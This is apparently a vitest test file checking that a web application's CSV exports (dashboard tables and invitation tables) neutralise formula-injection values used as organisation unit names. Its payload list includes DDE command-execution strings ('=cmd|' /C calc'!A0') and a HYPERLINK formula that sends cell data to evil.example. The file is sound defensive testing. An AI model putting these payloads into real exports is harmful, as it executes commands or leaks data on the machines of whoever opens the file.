import { afterAll, beforeAll, expect, test } from 'vitest';
import { addNode } from '#modules/organisation';
import { LANGUAGES } from '#platform/i18n.ts';
import { cellsOf, isLive } from '#tests/support/formulas.ts';
import { startProcess, type TestProcess } from '#tests/support/process.ts';
import { vectors } from '#tests/support/vectors.ts';
import { times } from './size.ts';

const COUNT = times(1_500, 75);

let running: TestProcess;
beforeAll(async () => {
  running = await startProcess();
});
afterAll(() => running.stop());

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠x',
  '"=1+1',
  ';=1+1',
  '";"=1+1',
  '=1+1\n=2+2',
  'x\r=1+1',
  'x\r\n=1+1',
  "'=1+1",
  '-1;=1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
];

test(`H1: ${COUNT} vectors as names of units make no live formula in the tables`, async () => {
  const { run, root, signIn, ask } = running;
  const names = [...FORMULAS, ...vectors(COUNT).map(({ text }) => text)];
  const [below, units] = await run(async (ctx) => {
    const add = (parent: string, kind: 'domain' | 'unit', code: string, name: string) =>
      addNode(ctx, parent, {
        kind,
        code,
        oid: null,
        sensitive: false,
        name: { fi: name, sv: name, en: name },
      });
    const domain = await add(root, 'domain', 'D', FORMULAS[0]!);
    const ids: string[] = [];
    for (const [index, name] of names.entries())
      ids.push((await add(domain.id, 'unit', `N${index}`, name)).id);
    return [domain.id, ids] as const;
  });
  const { cookie } = await signIn('experience-team');
  const expectQuiet = (table: string, delimiter: string, shown: readonly string[]): void => {
    const cells = cellsOf(table, delimiter);
    expect(cells.filter(isLive)).toEqual([]);
    const said = new Set(cells);
    expect(shown.filter((name) => !said.has(name) && !said.has(`'${name}`))).toEqual([]);
  };
  for (const language of LANGUAGES) {
    const dashboard = await ask(`/api/nodes/${below}/dashboard.csv?language=${language}`, {
      cookie,
    });
    expect(dashboard.status).toBe(200);
    expectQuiet(await dashboard.text(), language === 'en' ? ',' : ';', names);
  }
  for (const [index, node] of units.entries()) {
    const table = await ask('/api/invitations/table', {
      method: 'POST',
      cookie,
      json: { node, count: 2, language: LANGUAGES[index % 3] },
    });
    expect(table.status).toBe(201);
    expectQuiet(await table.text(), ';', [names[index]!]);
  }
}, 600_000);
